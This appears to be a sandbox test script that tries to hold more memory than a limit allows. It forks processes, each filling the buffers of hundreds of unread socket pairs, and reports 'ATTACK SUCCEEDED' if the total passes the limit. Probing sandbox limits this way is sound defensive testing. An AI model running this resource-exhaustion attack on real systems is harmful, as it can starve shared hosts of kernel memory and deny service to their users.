"""Goal: hold more memory than allowed in the buffers of sockets that nobody reads from.

Without a sandbox: unsafe
"""

import os
import socket

PROCESSES, PAIRS, ENOUGH = 5, 450, 900 << 20


def fill():
    """Fill the buffers of as many sockets as one process may have; return the sockets and the number of bytes."""
    held, count = [], 0
    for _ in range(PAIRS):
        held += socket.socketpair()
        for end in held[-2:]:
            end.setblocking(False)
            try:
                while True:
                    count += end.send(bytes(1 << 16))
            except BlockingIOError:
                continue
    return held, count


def attempt():
    read, write = os.pipe()
    children = []
    for _ in range(PROCESSES):
        children.append(os.fork())
        if children[-1] == 0:
            held, count = fill()
            os.write(write, count.to_bytes(8, "little"))
            os.read(os.pipe()[0], 1)  # never ends: it is ended
    total = sum(int.from_bytes(os.read(read, 8), "little") for _ in children)
    for child in children:
        os.kill(child, 9)
        os.waitpid(child, 0)
    if total > ENOUGH:
        raise RuntimeError(f"ATTACK SUCCEEDED: held {total >> 20} MiB where 700 are allowed")
    raise RuntimeError(f"stopped by: only {total >> 20} MiB")


attempt()
